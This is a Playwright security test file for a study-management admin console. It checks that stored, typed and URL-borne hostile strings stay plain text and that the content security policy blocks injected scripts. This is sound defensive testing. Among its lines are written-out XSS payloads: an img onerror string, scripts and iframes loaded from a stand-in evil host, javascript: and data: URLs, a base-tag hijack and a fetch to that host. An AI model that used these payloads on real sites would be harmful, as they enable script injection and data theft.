import {
  expect,
  type Page,
  proves,
  reseed,
  signIn,
  stageDb,
  test,
  visit,
  visitAnew,
} from '#test/browser/support/console.ts';
import { recordFigure } from '#tools/evidence/figures.ts';
import { EVIL, HOSTILE_BUNDLES, HOSTILE_TEXTS, HOSTILE_URLS } from '#test/support/hostile-texts.ts';
import { watchHarm } from '#test/browser/support/watch.ts';

const BUNDLES = HOSTILE_BUNDLES.length;
const id = (i: number) => `hostile-${i}`;
const email = (i: number) => `hostile-${i}@example.com`;

/** A hostile text in every text field of a record; over all records, each text in each field. */
function texts(fields: string, i: number): Record<string, string> {
  const names = fields.split(' ');
  return Object.fromEntries(
    names.map((name, at) => [name, HOSTILE_BUNDLES[(i + at) % BUNDLES] ?? '']),
  );
}

const PERSON = 'firstName lastName study site cohort role activeProgram zendeskID surveyMonkeyID';
const USER =
  'displayName appVersion deviceName deviceOS deviceOSVersion timezone arm group workflowStatus phone landingPageKey referralGroupKey UTCOffset updatedBy subjectID';
const FIELDS = {
  users: `${PERSON} ${USER}`,
  subjects: `${PERSON} fullName smsNumber addedBy updatedBy`,
  registrations: `${PERSON} arm createdBy updatedBy`,
  roles: 'name updatedBy',
  members: 'uid subjectID addedBy',
  systemevents: 'type category message eventGroup performedBy',
  history: 'action reason',
  playback:
    'MedrioSubjectID SubjectIdentifier SubjectStatus VisitName StudyTitle EventType DataEntryUserName FormName FormCompletionStatus SiteExternalID SiteName',
};

async function storeHostile(): Promise<void> {
  const now = new Date();
  const batch = stageDb().batch();
  const put = (path: string, data: object) => batch.set(stageDb().doc(path), data);
  for (let i = 0; i < BUNDLES; i += 1) {
    const own = { uid: id(i), email: email(i), created: now, updated: now };
    const userProperties = { note: HOSTILE_BUNDLES[i], [HOSTILE_BUNDLES[i] ?? '']: 1 };
    const user = { ...texts(FIELDS.users, i), ...own, userProperties };
    const subject = { ...texts(FIELDS.subjects, i), ...own, subjectID: id(i) };
    put(`users/${id(i)}`, user);
    put(`subjects/${id(i)}`, subject);
    put(`registrations/${email(i)}`, {
      ...texts(FIELDS.registrations, i),
      ...own,
      subjectID: id(i),
    });
    put(`roles/${id(i)}`, { ...texts(FIELDS.roles, i), membersCount: 1 });
    put(`roles/hostile-0/members/${email(i)}`, { ...texts(FIELDS.members, i), email: email(i) });
    put(`systemevents/${id(i)}`, { ...texts(FIELDS.systemevents, i), occurred: now });
    put(`medrio/events/playback/${id(i)}`, {
      timestamp: now,
      retries: i,
      FormEventData: texts(FIELDS.playback, i),
    });
    put(`history/h-${id(i)}`, {
      ...texts(FIELDS.history, i),
      actor: 'ada.admin@example.com',
      at: now,
      paths: [`subjects/${id(i)}`],
      changes: { [`subjects/${id(i)}`]: { before: user, after: subject } },
    });
    const key = (HOSTILE_BUNDLES[i] ?? '').replaceAll('/', '∕').slice(0, 300);
    for (const lookup of ['cohorts', 'studies', 'programs', 'journalTypes']) {
      put(`${lookup}/${key}`, { id: key, key, name: HOSTILE_BUNDLES[i] });
    }
  }
  await batch.commit();
}

test.beforeAll(async () => {
  await reseed();
  await storeHostile();
});

const LISTS = [
  ['/users?q=hostile', FIELDS.users],
  ['/subjects?q=hostile', FIELDS.subjects],
  ['/register?q=hostile', FIELDS.registrations],
  ['/roles', FIELDS.roles],
  ['/roles/hostile-0', FIELDS.members],
  ['/events', FIELDS.systemevents],
  ['/medrio', FIELDS.playback],
  ['/history', FIELDS.history],
  ['/journaltypes', 'id'],
] as const;

const DETAILS = [
  ['/users/:id', FIELDS.users],
  ['/subjects/:id', FIELDS.subjects],
  ['/register/edit/:email', FIELDS.registrations],
  ['/roles/:id', FIELDS.roles],
] as const;

async function settled(page: Page): Promise<void> {
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await expect(page.locator('[aria-busy="true"]')).toHaveCount(0);
}

test(
  'stored texts stay plain text in cells, tooltips, panels, headings, raw data and forms',
  proves('S9', 'T16'),
  async ({ page }) => {
    test.setTimeout(300_000);
    const harm = watchHarm(page);
    await signIn(page, 'Iris Viewer');
    await page.getByRole('button', { name: 'Sign Out' }).click();
    await signIn(page, 'Ada Admin');
    let sinks = 0;
    for (const [path, fields] of LISTS) {
      await visitAnew(page, path);
      await settled(page);
      await harm.look(path);
      const expanders = page.locator('tbody button[aria-expanded="false"]');
      if ((await expanders.count()) > 0) {
        await expanders.first().click();
        await harm.look(`${path}, opened`);
      }
      sinks += fields.split(' ').length;
    }
    for (const [path, fields] of DETAILS) {
      for (let i = 0; i < BUNDLES; i += 1) {
        const address = path.replace(':id', id(i)).replace(':email', encodeURIComponent(email(i)));
        await visitAnew(page, address);
        await settled(page);
        for (const name of ['Show history', 'Show raw data']) {
          const more = page.getByRole('button', { name });
          if (i === 0 && (await more.count()) > 0) await more.click();
        }
        await settled(page);
        await harm.look(address);
      }
      sinks += fields.split(' ').length;
    }
    expect(HOSTILE_TEXTS.length).toBeGreaterThanOrEqual(80);
    recordFigure({
      goal: 'S9',
      name: 'stored payloads',
      value: harm.seen.length,
      trials: sinks * HOSTILE_TEXTS.length,
    });
    expect(harm.seen).toEqual([]);
  },
);

const ADDRESSES = [
  '/users?q=*',
  '/users?cohort=*',
  '/users?page=*&sort=*&hide=*',
  '/subjects?q=*',
  '/events?q=*',
  '/users/*',
  '/subjects/*',
  '/roles/*',
  '/register/new/*',
  '/register/edit/*',
  '/medrio/*',
  '/no/such/page?next=*#*',
];

test(
  'texts in URLs and input stay plain text in fields, chips, messages and file names',
  proves('S9', 'T16'),
  async ({ page, pageErrors }) => {
    test.setTimeout(420_000);
    pageErrors.allow(/attempted to overwrite/);
    const harm = watchHarm(page);
    await signIn(page, 'Ada Admin');
    for (const address of ADDRESSES) {
      for (const bundle of HOSTILE_BUNDLES) {
        await visitAnew(page, address.replaceAll('*', encodeURIComponent(bundle)));
        await expect(page.getByRole('banner')).toBeVisible();
        await settled(page);
        await harm.look(address);
      }
    }
    await visit(page, '/roles');
    const name = page.getByRole('textbox', { name: 'New role' });
    for (const bundle of HOSTILE_BUNDLES) {
      await name.fill(bundle);
      await page.getByRole('button', { name: 'Create role' }).click();
      await expect(name).toHaveAttribute('aria-invalid', 'true');
      await harm.look('the message of a refused role');
    }
    const short = '<img src=x onerror=window.__hacked=1>';
    await name.fill(short);
    await page.getByRole('button', { name: 'Create role' }).click();
    await expect(page.getByText(`Role ${short} was created.`)).toBeVisible();
    await harm.look('a toast');
    await visit(page, `/users?q=${encodeURIComponent(short)}`);
    await expect(page.getByRole('heading', { name: 'Users', level: 1 })).toBeVisible();
    const download = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Export CSV' }).click();
    expect((await download).suggestedFilename()).toMatch(/^[\w.-]+\.csv$/);
    const sinks = ADDRESSES.length + 1;
    recordFigure({
      goal: 'S9',
      name: 'typed and linked payloads',
      value: harm.seen.length,
      trials: sinks * HOSTILE_TEXTS.length,
    });
    expect(harm.seen).toEqual([]);
  },
);

test('a stored URL that is not http is not a link', proves('S9', 'T17'), async ({ page }) => {
  const setting = stageDb().doc('tempest/flagsmith');
  await setting.set({ link: 'https://flags.example.com/' });
  const harm = watchHarm(page);
  await signIn(page, 'Sam Staff');
  await page.getByRole('button', { name: 'Administration' }).click();
  const link = page.getByRole('link', { name: /Feature Flags/ });
  for (const url of HOSTILE_URLS) {
    await setting.set({ link: 'https://flags.example.com/' });
    await expect(link).toHaveCount(1);
    await setting.set({ link: url });
    await expect(link, url).toHaveCount(0);
  }
  await harm.look('the feature-flag link');
  expect(harm.seen.filter((what) => !what.includes(`flags.${EVIL}`))).toEqual([]);
});

test(
  'the content security policy stops an injected script',
  proves('S9'),
  async ({ page, pageErrors }) => {
    pageErrors.allow(/Content Security Policy|Refused to|violates/);
    await signIn(page, 'Sam Staff');
    const asked: string[] = [];
    // A request blocked by the policy is reported as failed and was never sent.
    page.on('response', (response) => void asked.push(response.url()));
    page.on('requestfailed', (request) => {
      if (request.failure()?.errorText !== 'csp') asked.push(request.url());
    });
    await page.evaluate((evil) => {
      const add = (tag: string, fields: object) =>
        document.body.append(Object.assign(document.createElement(tag), fields));
      add('script', { textContent: 'window.__hacked = "inline"' });
      add('script', { src: `https://${evil}/x.js` });
      add('script', { src: 'data:text/javascript,window.__hacked="data"' });
      add('iframe', { src: `https://${evil}/frame` });
      add('object', { data: `https://${evil}/x` });
      add('div', { innerHTML: '<img src="data:," onerror="window.__hacked=\'handler\'">' });
      add('base', { href: `https://${evil}/` });
      add('a', { href: 'javascript:window.__hacked="link"', id: 'script-link' });
      document.getElementById('script-link')?.click();
      return fetch(`https://${evil}/data`).catch(() => undefined);
    }, EVIL);
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => '__hacked' in window)).toBe(false);
    expect(await page.evaluate(() => document.baseURI)).toContain('localhost');
    expect(asked.filter((url) => url.includes(EVIL))).toEqual([]);
  },
);
